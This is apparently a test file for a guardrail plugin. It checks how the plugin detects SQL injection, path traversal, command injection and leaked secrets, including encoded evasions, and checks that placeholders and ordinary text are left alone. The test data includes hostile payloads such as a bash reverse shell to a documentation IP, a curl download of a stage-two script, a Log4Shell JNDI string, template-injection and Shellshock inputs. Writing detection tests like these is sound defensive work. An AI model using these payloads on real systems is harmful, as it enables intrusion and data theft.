// security_filters: each family caught, through encodings; placeholders, prose, code and docs not flagged; exact result shape.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import securityFilters, { decodePayload, type SecurityFiltersResults } from '../../plugins/guardrails/security-filters/index.js';
import { GuardrailEngine, type GuardrailOutcome, type GuardrailPlugin } from '../../src/index.js';

/**
 * Random-looking bytes from a fixed seed (SHA-256 of a counter): test secrets are made at run time, so no token-shaped
 * literal sits in the repo, and every run makes the same ones, so a test cannot pass or fail by chance (a truly random
 * 32-character key has no digit about once in 280 runs, and a key without a digit is not counted: see isRealToken).
 */
let drawn = 0;
function seededBytes(length: number): Buffer {
  const blocks: Buffer[] = [];
  for (let size = 0; size < length; size += 32) blocks.push(createHash('sha256').update(`security-filters-test-${drawn++}`).digest());
  return Buffer.concat(blocks).subarray(0, length);
}
/** Characters of an alphabet drawn from the seeded bytes. */
function randomOf(alphabet: string, length: number): string {
  return Array.from(seededBytes(length), (byte) => alphabet[byte % alphabet.length]).join('');
}
const UPPER_DIGITS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const b64url = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

describe('security_filters guardrail', () => {
  let engine: GuardrailEngine;
  before(async () => {
    engine = new GuardrailEngine();
    await engine.add(securityFilters as unknown as GuardrailPlugin<object, unknown>);
  });

  const run = (text: string, options: Record<string, unknown> = {}, threshold?: number): Promise<GuardrailOutcome<SecurityFiltersResults>> =>
    engine.evaluate('security_filters', text, { options, threshold }) as Promise<GuardrailOutcome<SecurityFiltersResults>>;
  const triggered = async (text: string): Promise<string[]> => (await run(text)).triggered ?? [];

  describe('catches each family', () => {
    const cases: Array<[family: string, text: string]> = [
      ['sql_injection', "search?name=bob' OR 'x'='x' --"],
      ['sql_injection', 'id=5 UNION SELECT username, password_hash FROM accounts'],
      ['sql_injection', "q=x'; DROP TABLE customers; --"],
      ['sql_injection', "id=7; WAITFOR DELAY '0:0:10'--"],
      ['sql_injection', "user=a' AND SLEEP(3)#"],
      ['sql_injection', "id=1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)"],
      ['path_traversal', 'GET /download?file=../../../../etc/shadow HTTP/1.1'],
      ['path_traversal', 'template=....//....//....//boot.ini'],
      ['path_traversal', 'img=..\\..\\..\\..\\..\\..\\..\\windows\\win.ini'],
      ['command_injection', 'host=example.org; cat /etc/passwd'],
      ['command_injection', 'ping -c 1 127.0.0.1 && whoami'],
      ['command_injection', 'name=x | curl http://203.0.113.7/stage2.sh'],
      ['command_injection', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
      ['command_injection', "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"],
      ['command_injection', 'User-Agent: ${jndi:ldap://203.0.113.7/a}'],
      ['command_injection', '<!--#exec cmd="ls /" -->'],
      ['command_injection', "() { :; }; /bin/bash -c 'sleep 5'"],
    ];
    for (const [family, text] of cases) {
      it(`${family}: ${text.slice(0, 60)}`, async () => {
        assert.ok((await triggered(text)).includes(family), `${text} → ${JSON.stringify((await run(text)).results)}`);
      });
    }
  });

  describe('reads through encodings', () => {
    const cases: Array<[family: string, what: string, text: string]> = [
      ['sql_injection', 'URL-encoded', 'id=1%27%20OR%20%27a%27%3D%27a'],
      ['sql_injection', 'double URL-encoded', 'q=%2527%2520UNION%2520SELECT%2520null%252Cnull--'],
      ['sql_injection', 'smart quotes', 'name=x’ or ‘z’=’z'],
      ['path_traversal', 'encoded slashes', 'f=..%2f..%2f..%2fetc%2fhosts'],
      ['path_traversal', 'double-encoded dots', 'f=%252e%252e%252f%252e%252e%252fapp%252fconfig.yml'],
      ['path_traversal', 'overlong UTF-8', 'f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd'],
      ['path_traversal', 'IIS %u escapes', 'f=%u002e%u002e%u2215%u002e%u002e%u2215secrets.txt'],
      ['path_traversal', 'unicode escapes', 'f=\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/var/lib/data'],
      ['path_traversal', 'HTML entities', 'f=&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;keys.json'],
      ['path_traversal', 'null byte', 'f=../../../var/www/config.php%00.png'],
      ['path_traversal', 'full-width dots and division slash', 'f=．．∕．．∕．．∕etc∕passwd'],
      ['command_injection', 'encoded separators', 'host=example.org%3Bid%3B'],
      ['command_injection', 'encoded line break', 'name=x%0a/usr/bin/whoami'],
      ['command_injection', 'IFS instead of blanks', 'f=x;cat${IFS}/etc/passwd'],
      ['command_injection', 'HTML-escaped SSI', '&lt;!--#exec cmd=&quot;id&quot;--&gt;'],
    ];
    for (const [family, what, text] of cases) {
      it(`${family}, ${what}`, async () => {
        assert.ok((await triggered(text)).includes(family), `${text} → ${JSON.stringify((await run(text)).results)}`);
      });
    }

    it('decodes layers as a vulnerable server would', () => {
      assert.equal(decodePayload('%252e%252e%252fetc').decoded, '../etc');
      assert.equal(decodePayload('%c0%ae%c0%ae%c0%af').decoded, '../');
      assert.equal(decodePayload('a%00b').nullByte, true);
      assert.equal(decodePayload('plain text').encoded, false);
    });
  });

  describe('secrets leakage', () => {
    const secrets: Array<[what: string, text: () => string]> = [
      ['AWS access key id', () => `aws_access_key_id = AKIA${randomOf(UPPER_DIGITS, 16)}`],
      ['AWS secret key', () => `aws_secret_access_key=${randomOf(ALNUM + '/+', 40)}`],
      ['GitHub token', () => `token: ${['ghp', randomOf(ALNUM, 36)].join('_')}`],
      ['GitLab token', () => `glpat-${randomOf(ALNUM, 20)}`],
      ['Slack bot token', () => `xoxb-${randomOf('0123456789', 11)}-${randomOf('0123456789', 12)}-${randomOf(ALNUM, 24)}`],
      ['npm token', () => `//registry.npmjs.org/:_authToken=npm_${randomOf(ALNUM, 36)}`],
      ['Stripe key', () => `STRIPE_KEY=${['sk', 'live', randomOf(ALNUM, 28)].join('_')}`],
      ['OpenAI key', () => `sk-proj-${randomOf(ALNUM, 24)}T3BlbkFJ${randomOf(ALNUM, 24)}`],
      ['Anthropic key', () => `ANTHROPIC_API_KEY=sk-ant-api03-${randomOf(ALNUM, 93)}AA`],
      ['PEM private key', () => `-----BEGIN RSA PRIVATE KEY-----\n${seededBytes(600).toString('base64').replace(/(.{64})/g, '$1\n')}\n-----END RSA PRIVATE KEY-----`],
      ['JWT', () => `Bearer ${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ sub: 'user-42', iat: 1700000000 })}.${seededBytes(32).toString('base64url')}`],
      ['credentials in a URL', () => `clone https://deploy:${randomOf(ALNUM, 14)}@git.internal.example/repo.git`],
      ['password assignment', () => `DB_PASSWORD=Tr0ub4dor&3x${randomOf(ALNUM, 4)}`],
      ['API key assignment', () => `"api_key": "${randomOf(ALNUM, 32)}"`],
    ];
    for (const [what, make] of secrets) {
      it(`catches a ${what}`, async () => {
        const text = make();
        assert.deepEqual(await triggered(text), ['secrets_leakage'], `${text} → ${JSON.stringify((await run(text)).results)}`);
      });
    }

    const placeholders = [
      'AWS_SECRET_ACCESS_KEY=<YOUR_KEY>',
      'aws_access_key_id = AKIAIOSFODNN7EXAMPLE',
      'api_key=xxxxxxxxxxxxxxxxxxxxxxxx',
      'password=changeme',
      'token: your-api-token-here',
      `GITHUB_TOKEN=${['ghp', 'x'.repeat(36)].join('_')}`,
      `STRIPE_KEY=${['sk', 'live', 'A'.repeat(24)].join('_')}`,
      '-----BEGIN PRIVATE KEY-----\nplaceholder\n-----END PRIVATE KEY-----',
      'https://user:password@example.com/api',
      'postgres://app:${DB_PASSWORD}@db:5432/app',
      'mysql://root:secret@localhost:3306/dev',
      'password = os.environ["DB_PASSWORD"]',
      'const password = readPasswordFromVault();',
      'api_key: "abcdefghijklmnop1234567890"',
    ];
    for (const text of placeholders) {
      it(`leaves the placeholder alone: ${text.slice(0, 50).replace(/\n/g, ' ')}`, async () => {
        assert.deepEqual(await triggered(text), [], JSON.stringify((await run(text)).results));
      });
    }

    it('masks secrets in the evidence', async () => {
      const body = randomOf(ALNUM, 36);
      const password = `Zq${randomOf(ALNUM, 12)}9!`;
      const outcome = await run(`token ${['ghp', body].join('_')} and https://ci:${password}@build.example.net/x and PGPASSWORD=${password}`);
      const evidence = outcome.results.findings.map((f) => f.evidence).join(' | ');
      assert.ok(!evidence.includes(body) && !evidence.includes(body.slice(0, 8)), evidence);
      assert.ok(!evidence.includes(password), evidence);
      assert.match(evidence, /ghp_\*\*\*\*\(36 chars\)/);
      assert.match(evidence, /https:\/\/ci:\*\*\*\*@build\.example\.net/);
    });
  });

  describe('leaves ordinary content alone', () => {
    const negatives = [
      'Hi Dana, the invoice for March is attached. Let me know if you have questions or concerns. Best, Sam (sam@example.org)',
      'Libraries live in /usr/lib and /usr/local/lib; see ../README.md and ./docs/setup.md for details.',
      'To install: cd project && npm install && npm test. Then run `ls -la /tmp` to check the output folder.',
      'Run the following on its own line:\nping -c 4 example.com\ncurl -s https://example.com/health',
      'SELECT name, email FROM users WHERE id = 42 ORDER BY name; -- returns one row',
      '| id | name | hostname |\n|----|------|----------|\n| 1 | web | web-01 |',
      "import { join } from 'node:path';\nimport config from '../../config/index.js';\nconst host = options.host || hostname;",
      '{"path": "..\\\\..\\\\src\\\\index.ts", "exclude": "(?:name|id|type)"}',
      'Eat well & sleep 8 hours; the Q&A is on Monday. Tom & Jerry or 1 of the others may come.',
      'def handler(event):\n    time.sleep(5)\n    return os.path.join(base, "data")',
      'The European Union. Select a country from the list and order by population.',
      'Use exec(\'ls -lh /usr\') from child_process to list the folder, as the Node.js docs show.',
    ];
    for (const text of negatives) {
      it(`not flagged: ${text.slice(0, 60).replace(/\n/g, ' ')}`, async () => {
        const outcome = await run(text);
        assert.equal(outcome.flagged, false, JSON.stringify(outcome.results));
      });
    }
  });

  describe('result shape and options', () => {
    it('answers exactly the spec shape', async () => {
      const outcome = await run("id=1' OR '1'='1' -- and ../../../../etc/passwd");
      assert.deepEqual(Object.keys(outcome.results).sort(), ['categories', 'category_scores', 'findings']);
      const families = ['command_injection', 'path_traversal', 'secrets_leakage', 'sql_injection'];
      assert.deepEqual(Object.keys(outcome.results.categories).sort(), families);
      assert.deepEqual(Object.keys(outcome.results.category_scores).sort(), families);
      assert.deepEqual(outcome.results.categories, { command_injection: false, path_traversal: true, secrets_leakage: false, sql_injection: true });
      for (const score of Object.values(outcome.results.category_scores)) assert.ok(score >= 0 && score <= 1);
      assert.deepEqual(outcome.triggered, ['path_traversal', 'sql_injection']);
      assert.equal(outcome.flagged, true);
      assert.ok(outcome.results.findings.length >= 2);
      for (const finding of outcome.results.findings) {
        assert.deepEqual(Object.keys(finding).sort(), ['category', 'rule', 'evidence'].sort());
        assert.ok(finding.evidence.length <= 80);
        assert.ok(outcome.triggered?.includes(finding.category));
      }
    });

    it('a clean text scores zero everywhere and has no findings', async () => {
      const outcome = await run('The weather in Lisbon is sunny, 24 °C.');
      assert.deepEqual(outcome.results, {
        categories: { command_injection: false, path_traversal: false, secrets_leakage: false, sql_injection: false },
        category_scores: { command_injection: 0, path_traversal: 0, secrets_leakage: 0, sql_injection: 0 },
        findings: [],
      });
      assert.deepEqual(outcome.triggered, []);
    });

    it('checks only the families asked for', async () => {
      const outcome = await run("x'; DROP TABLE t; -- ; cat /etc/passwd", { categories: ['sql_injection'] });
      assert.deepEqual(outcome.triggered, ['sql_injection']);
      assert.equal(outcome.results.category_scores.command_injection, 0);
    });

    it('follows the threshold, and rejects unknown options', async () => {
      const text = 'template=....//....//boot.ini';
      assert.equal((await run(text)).flagged, true);
      assert.equal((await run(text, {}, 0.99)).flagged, false);
      assert.throws(() => engine.resolveOptions('security_filters', { categories: ['xss'] }));
      assert.throws(() => engine.resolveOptions('security_filters', { colour: 'red' }));
    });

    it('takes well under a millisecond on 1 KB (p50)', async () => {
      const text = `${'Order #4411 shipped to 12 Rua Augusta; tracking at https://carrier.example/t?id=88. '.repeat(10)}`.slice(0, 1024);
      const times: number[] = [];
      for (let i = 0; i < 300; i++) {
        const started = performance.now();
        await run(text);
        times.push(performance.now() - started);
      }
      times.sort((a, b) => a - b);
      assert.ok((times[150] ?? Infinity) < 1, `p50 ${times[150]} ms`);
    });
  });
});
